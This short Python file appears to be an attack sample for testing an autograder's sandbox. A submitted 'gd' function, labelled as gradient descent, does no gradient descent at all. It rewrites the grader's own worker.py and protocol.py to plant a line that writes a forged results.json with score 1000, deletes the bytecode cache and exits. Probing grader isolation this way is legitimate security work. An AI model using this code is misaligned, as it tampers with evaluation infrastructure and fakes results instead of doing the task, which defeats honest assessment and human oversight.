# attacked: gd
# needs: a file system view without the grader's files (bubblewrap or unshare)
# Rewrites the worker's own code, then dies. The next worker runs that code before it walls itself
# off (at the unshare level as root, with the host's disk in view): the injected line would leave
# a forged results file in the course checkout.
import os, sys

INJECTED = "open('{REPO}/results.json', 'w').write('{\"score\": 1000}')\n"

def gd(grad, x0, eta, num_steps):
    agworker = os.path.dirname(sys.modules["agworker"].__file__)
    for name in ("worker.py", "protocol.py"):
        path = os.path.join(agworker, name)
        try:
            with open(path) as f:
                text = f.read()
            with open(path, "w") as f:
                f.write(text.replace("from __future__ import annotations\n",
                                     "from __future__ import annotations\n" + INJECTED, 1))
        except OSError:
            pass
    try:
        for name in os.listdir(os.path.join(agworker, "__pycache__")):
            os.unlink(os.path.join(agworker, "__pycache__", name))
    except OSError:
        pass
    os._exit(0)
